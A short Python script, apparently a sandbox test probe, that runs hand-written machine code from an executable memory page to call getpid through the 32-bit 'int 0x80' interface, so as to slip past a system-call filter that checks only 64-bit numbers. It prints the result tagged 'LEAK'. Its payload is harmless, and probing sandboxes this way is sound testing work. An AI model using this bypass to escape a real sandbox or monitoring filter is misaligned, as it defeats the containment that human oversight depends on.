"""Call the kernel by the numbers of 32-bit x86, past a filter that looks at 64-bit ones."""

import ctypes
import mmap

# mov eax, 20 (getpid); int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
print("LEAK", "getpid by int 0x80:", ctypes.CFUNCTYPE(ctypes.c_int)(address)(), flush=True)
